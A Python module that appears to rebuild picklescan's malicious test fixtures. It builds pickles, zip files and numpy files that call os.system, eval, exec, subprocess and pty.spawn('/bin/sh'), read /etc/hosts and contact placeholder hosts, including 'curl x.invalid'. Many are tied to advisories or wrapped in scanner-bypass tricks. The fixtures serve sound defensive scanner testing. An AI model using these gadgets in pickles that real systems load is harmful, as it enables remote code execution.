"""The two malicious sets of picklescan's own tests, restated: what each file calls, as opcodes.

https://github.com/mmaitre314/picklescan (MIT), tests/init_data_files.py: ``data`` (SET_1) and
``data2`` (SET_2), each named as there. Nothing here imports what a pickle names, and what a pickle
would do is harmless or leads nowhere: only the callable counts.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from collections.abc import Iterator

PAYLOAD = "__import__('os').system('whoami')"


def call(module: str, name: str, *args: object, protocol: int = 4) -> bytes:
    """A pickle that calls ``module.name(*args)`` when it is loaded."""
    body = pickle.dumps(args, protocol=min(protocol, 4))[:-1]
    if protocol >= 4:
        # The header is the arguments' own; the callable goes in front of them.
        start = body[:2] if body[:1] == pickle.PROTO else b""
        rest = body[len(start) :]
        if rest[:1] == pickle.FRAME:
            rest = rest[9:]
        named = b"".join(
            pickle.SHORT_BINUNICODE + bytes([len(t)]) + t.encode() for t in (module, name)
        )
        return start + named + pickle.STACK_GLOBAL + rest + pickle.REDUCE + pickle.STOP
    start = body[:2] if body[:1] == pickle.PROTO else b""
    named = pickle.GLOBAL + f"{module}\n{name}\n".encode()
    return start + named + body[len(start) :] + pickle.REDUCE + pickle.STOP


def zipped(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, data)
    return out.getvalue()


def array(data: bytes) -> bytes:
    """A numpy file of objects, whose body is a pickle."""
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    head += b" " * (-(len(head) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + data


EVAL = call("builtins", "eval", "print('456')")
MEMO = b"".join(
    pickle.UNICODE + text + b"\n" + pickle.PUT + key + b"\n" + pickle.POP
    for text, key in ((b"os", b"2"), (b"system", b"3"), (b"torch", b"0"), (b"LongStorage", b"1"))
)
MEMO += pickle.GET + b"2\n" + pickle.GET + b"3\n" + pickle.STACK_GLOBAL + pickle.MARK
MEMO += pickle.UNICODE + b"cat flag.txt\n" + pickle.TUPLE + pickle.REDUCE + pickle.STOP
SOUR = (
    b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'fl=1;picklesmashed=fl'\nS''\n"
    b"S'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n"
    b"(c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'picklesmashed'\n"
    b"ltRp104\n0g104\n."
)
OS_SYSTEM = b"\x80\x04cos\nsystem\nVecho pwned\n\x85R0"

SET_1: dict[str, bytes] = {
    "malicious0.pkl": SOUR,
    **{f"malicious1_v{v}.pkl": call("builtins", "eval", "1", protocol=v) for v in (0, 3, 4)},
    **{f"malicious2_v{v}.pkl": call("posix", "system", "ls", protocol=v) for v in (0, 3, 4)},
    "malicious3.pkl": call("httplib", "HTTPSConnection", "github.invalid", protocol=0),
    "malicious4.pickle": call("requests.api", "get", "https://github.invalid"),
    "malicious5.pickle": call("aiohttp.client", "ClientSession"),
    "malicious6.pkl": pickle.dumps(["a", "b"]) + call("requests.api", "get", "https://x.invalid"),
    "malicious7.pkl": call("socket", "create_connection", ("github.invalid", 80)),
    "malicious8.pkl": call("subprocess", "run", ["ls", "-l"]),
    "malicious9.pkl": call("sys", "exit", 0),
    "malicious10.pkl": b"(S'raise RuntimeError(\"Injection running\")'\ni__builtin__\nexec\n.",
    "malicious11.pkl": MEMO,
    "malicious12.pkl": call("operator", "attrgetter", "system"),
    "malicious13a.pkl": call("cPickle", "loads", b"I12345\n.", protocol=0),
    "malicious13b.pkl": call("_pickle", "loads", b"I12345\n."),
    "malicious14.pkl": call("runpy", "_run_code", "print('456')"),
    "malicious15a.pkl": call("bdb", "Bdb.run", None, "import os", protocol=2),
    "malicious15b.pkl": call("bdb", "Bdb.run", None, "import os"),
    "malicious16.pkl": call("pip", "main", ["install", "nothing", "-q"], protocol=0),
    "malicious17.pkl": call("torch._inductor.codecache", "compile_file", "", "", ["sh", "-c"]),
    "malicious18.pkl": call("pydoc", "pipepager", "", 'echo "pwned"'),
    "malicious19.pkl": call("functools", "partial", "torch.load", "other.bin"),
    "malicious20.pkl": call("venv", "create", "venv", False, False, True, False, "$(echo pwned)"),
    "malicious-invalid-bytes.pkl": MEMO + b"\n\n\t\t",
    "broken_model.pkl": b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a')tRX.",
    "malicious1.zip": zipped("data.pkl", EVAL),
    "malicious1_wrong_ext.zip": zipped("data.txt", EVAL),
    "malicious1_central_directory.zip": zipped("data.pkl", EVAL).replace(
        b"data.pkl", b"datap.kl", 1
    ),
    **{
        f"malicious1_{bit:#x}.zip": zipped("data.pkl", EVAL)[:6]
        + bytes([bit])
        + zipped("data.pkl", EVAL)[7:]
        for bit in (0x1, 0x20, 0x40)
    },
    "malicious1.7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + EVAL,
    "object_array.npy": array(call("numpy.core.multiarray", "_reconstruct", None, (0,), b"b")),
    "bad_pytorch.pt": b"\211PNG\r\n\032\n",
    "pytorch_magic_bypass.pt": pickle.dumps(0x1950A86A20F9469CFC6C) + EVAL,
    "not_a_pickle.bin": b"cmod\n\xf8\n",
    "sys_module_override_sploit.pkl": call("sys", "modules.__setitem__", "sys", None),
}

_CALLS: dict[str, tuple[str, str, tuple[object, ...]]] = {
    "GHSA-4r9r-ch6f-vxmx": ("torch.utils.bottleneck.__main__", "run_cprofile", (PAYLOAD, {})),
    "GHSA-86cj-95qr-2p4f": ("torch._dynamo.guards", "GuardBuilder.get", ({}, PAYLOAD)),
    "GHSA-f4x7-rfwp-v3xw": (
        "torch.fx.experimental.symbolic_shapes",
        "ShapeEnv.evaluate_guards_expression",
        ({}, PAYLOAD, []),
    ),
    "GHSA-f745-w6jp-hpxx": ("torch.utils.collect_env", "run", (PAYLOAD,)),
    "GHSA-jhph-76pp-mggw": ("torch.utils.collect_env", "run_and_read_all", (None, PAYLOAD)),
    "GHSA-h3qp-7fh3-f8h4": (
        "torch.utils.data.datapipes.utils.decoder",
        "basichandlers",
        ("pickle", b""),
    ),
    "GHSA-vr7h-p6mm-wpmh": ("torch.jit.unsupported_tensor_ops", "execWrapper", (PAYLOAD, {}, {})),
    "GHSA-vv6j-3g6g-2pvj": ("torch.utils._config_module", "ConfigModule.load_config", ({}, b"")),
    "GHSA-5qwp-399c-mjwf": ("trace", "Trace.run", ({}, PAYLOAD)),
    "GHSA-g344-hcph-8vgg": ("trace", "Trace.runctx", ({}, PAYLOAD, {}, {})),
    "GHSA-x696-vm39-cp64": ("profile", "Profile.run", ({}, PAYLOAD)),
    "GHSA-6vqj-c2q5-j97w": ("profile", "Profile.runctx", ({}, PAYLOAD, {}, {})),
    "GHSA-f54q-57x4-jg88": ("lib2to3.pgen2.grammar", "Grammar.loads", ({}, b"")),
    "GHSA-3vg9-h568-4w9m": ("idlelib.debugobj", "ObjectTreeItem.SetText", ({}, PAYLOAD)),
    "GHSA-6w4w-5w54-rjvr": ("idlelib.autocomplete", "AutoComplete.get_entity", ({}, PAYLOAD)),
    "GHSA-7cq8-mj8x-j263": (
        "idlelib.autocomplete",
        "AutoComplete.fetch_completions",
        ({}, PAYLOAD, 0),
    ),
    "GHSA-cj3c-v495-4xqh": ("code", "InteractiveInterpreter.runcode", ({}, PAYLOAD)),
    "GHSA-8r4j-24qv-fmq9": ("idlelib.calltip", "Calltip.fetch_tip", ({}, PAYLOAD)),
    "GHSA-9xph-j2h6-g47v": ("idlelib.calltip", "get_entity", (PAYLOAD,)),
    "GHSA-4whj-rm5r-c2v8": ("torch.utils.bottleneck.__main__", "run_autograd_prof", (PAYLOAD,)),
    "GHSA-xp4f-hrf8-rxw7": ("ensurepip", "_run_pip", (PAYLOAD,)),
    "GHSA-p9w7-82w4-7q8m": (
        "lib2to3.pgen2.pgen",
        "ParserGenerator.make_label",
        (None, {}, PAYLOAD),
    ),
    "GHSA-m869-42cg-3xwr": ("idlelib.run", "Executive.runcode", ({}, PAYLOAD)),
    "GHSA-j343-8v2j-ff7w": ("idlelib.pyshell", "ModifiedInterpreter.runcommand", ({}, PAYLOAD)),
    "GHSA-3gf5-cxq9-w223": ("idlelib.pyshell", "ModifiedInterpreter.runcode", ({}, PAYLOAD)),
    "GHSA-fqq6-7vqf-w3fg": ("doctest", "debug_script", (PAYLOAD, True)),
    "GHSA-9w88-8rmg-7g2p": ("cProfile", "runctx", (PAYLOAD, None, None)),
    "GHSA-49gj-c84q-6qm9": ("cProfile", "run", (PAYLOAD,)),
    "GHSA-q77w-mwjj-7mqx": (
        "asyncio.unix_events",
        "_UnixSubprocessTransport._start",
        ({}, "whoami", True, None, None, None, 0),
    ),
    "GHSA-m273-6v24-x4m4": ("distutils.file_util", "write_file", ("pwned.env", ["x"])),
    "GHSA-4675-36f9-wf6r": ("ctypes", "CDLL", (None,)),
    "GHSA-84r2-jw7c-4r5q": ("operator", "methodcaller", ("system", "echo pwned")),
    "GHSA-vqmv-47xg-9wpr": ("pty", "spawn", (["/bin/sh", "-c", "id; exit"],)),
    "GHSA-r8g5-cgf2-4m4m": ("numpy.f2py.crackfortran", "getlincoef", (PAYLOAD, [])),
    "GHSA-46h3-79wf-xr6c": ("operator", "methodcaller", ("__call__", PAYLOAD)),
    "GHSA-7wx9-6375-f5wh": ("idlelib.run", "Executive.runcode", ({}, PAYLOAD)),
    "GHSA-955r-x9j8-7rhh": ("_operator", "attrgetter", ("system",)),
    "GHSA-9m3x-qqw2-h32h": ("pty", "spawn", ("/bin/sh",)),
    "GHSA-vvpj-8cmc-gx39": ("pkgutil", "resolve_name", ("os:system",)),
    "GHSA-g38g-8gr9-h9xp-aix-support": ("_aix_support", "_read_cmd_output", ("id",)),
    "GHSA-g38g-8gr9-h9xp-imaplib": ("imaplib", "IMAP4_stream", ("id",)),
    "GHSA-g38g-8gr9-h9xp-osx-support": ("_osx_support", "_read_output", ("id",)),
    "GHSA-g38g-8gr9-h9xp-pyrepl-pager": ("_pyrepl.pager", "pipe_pager", ("", "id")),
    "GHSA-g38g-8gr9-h9xp-test": ("test.support.script_helper", "assert_python_ok", ("-c", "1")),
    "GHSA-g38g-8gr9-h9xp-uuid": ("uuid", "_get_command_stdout", ("id",)),
    "malicious21": ("timeit", "timeit", ("", "import os; os.system('curl x.invalid')")),
    "malicious22": ("numpy.testing._private.utils", "runstring", ("import os", {})),
    "io_FileIO": ("_io", "FileIO", ("/etc/hosts", "r")),
    "urllib_request_urlopen": ("urllib.request", "urlopen", ("https://example.invalid",)),
    "importlib_bypass": ("importlib", "import_module", ("os",)),
    "logging_FileHandler": ("logging", "FileHandler", ("pwned.log",)),
    "marshal_bypass": ("marshal", "loads", (b"N",)),
    "types_CodeType": ("types", "CodeType", (0,)),
    "cloudpickle_codeinjection": ("cloudpickle.cloudpickle", "_builtin_type", ("CodeType",)),
}

SET_2: dict[str, bytes] = {f"{n}.pkl": call(m, f, *args) for n, (m, f, args) in _CALLS.items()}
SET_2 |= {
    "GHSA-jgw4-cr84-mqxg.bin": SET_2["GHSA-q77w-mwjj-7mqx.pkl"],
    "malicious23.pkl": b"S'os'\nS'system'\n\x93S'ls'\n\x85R.",
    "keyerror-exploit.pkl": OS_SYSTEM + b"\x8c\x02os\x94h\x03h\x00\x93KB.",
    "type-confusion-exploit.pkl": OS_SYSTEM + b"J\x2a\0\0\0\x94\x8c\x02os\x94h\x00h\x01\x93KB.",
    "malicious1_crc.zip": zipped("data.pkl", EVAL).replace(b"print('456')", b"print('123')", 1),
    "dns_exfiltration.npy": array(call("ssl", "get_server_certificate", ("x.invalid", 443))),
    "object_arrays.npz": zipped("a.npy", array(pickle.dumps([0, 1]))),
    "object_arrays_compressed.npz": zipped("a.npy", array(pickle.dumps([0, 1]))),
}


def both() -> Iterator[tuple[str, bytes]]:
    """Every file of the two sets."""
    yield from SET_1.items()
    yield from SET_2.items()
